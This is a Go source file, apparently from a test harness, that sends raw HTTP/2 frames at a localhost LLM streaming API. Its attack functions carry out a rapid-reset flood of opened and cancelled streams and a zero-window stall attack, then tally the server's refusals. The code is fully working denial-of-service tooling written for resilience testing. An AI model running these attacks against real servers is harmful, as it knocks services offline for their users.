package main

import (
	"bytes"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// frames is a connection of HTTP/2 without TLS on which an attacker sends the frames that it
// wants. What comes is read, and counted.
type frames struct {
	*http2.Framer
	net.Conn
	closed chan struct{} // the server has closed the connection

	mu     sync.Mutex
	resets int
}

// openFrames opens a connection with these settings.
func (a *attacker) openFrames(settings ...http2.Setting) (f *frames, end func()) {
	conn, stop := a.connect()
	if conn == nil {
		return nil, nil
	}
	f = &frames{Framer: http2.NewFramer(conn, conn), Conn: conn, closed: make(chan struct{})}
	go func() {
		defer close(f.closed)
		for {
			frame, err := f.ReadFrame()
			if err != nil {
				return
			}
			if _, reset := frame.(*http2.RSTStreamFrame); reset {
				f.mu.Lock()
				f.resets++
				f.mu.Unlock()
			}
		}
	}()
	_, _ = io.WriteString(conn, http2.ClientPreface)
	_ = f.WriteSettings(settings...) // what follows fails if this does
	return f, func() { stop(); <-f.closed }
}

// headers returns the head of a request.
func (a *attacker) headers(path string) []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	fields := [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "localhost"}, {":path", path}, {"x-api-key", a.key}}
	for _, field := range fields {
		_ = e.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // to a buffer
	}
	return block.Bytes()
}

func (f *frames) request(id uint32, head []byte) error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndStream: true, EndHeaders: true})
}

// rapidReset opens streams and resets them at once, until the server closes the connection: that
// is counted as a refusal, with status 400.
func (a *attacker) rapidReset() {
	f, end := a.openFrames()
	if f == nil {
		return
	}
	defer end()
	head := a.headers("/v1/models/" + a.llm + "/stream?prompt=Hello")
	for id := uint32(1); id < 100_000; id += 2 {
		if f.request(id, head) != nil || f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			a.tally.add(a.kind, 400)
			return
		}
	}
	a.tally.add(a.kind, 200)
}

// noWindow lets the server send no byte of its responses. Streams that are reset for that are
// counted as refusals.
func (a *attacker) noWindow() {
	f, end := a.openFrames(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if f == nil {
		return
	}
	defer end()
	head := a.headers("/v1/models/" + a.llm + "/stream?prompt=Hello")
	const streams = 20
	for i := range uint32(streams) {
		if f.request(2*i+1, head) != nil {
			break
		}
	}
	a.hold(15 * time.Second)
	f.Close()
	<-f.closed
	f.mu.Lock()
	defer f.mu.Unlock()
	for range f.resets {
		a.tally.add(a.kind, 408)
	}
	for range streams - f.resets {
		a.tally.add(a.kind, 0)
	}
}
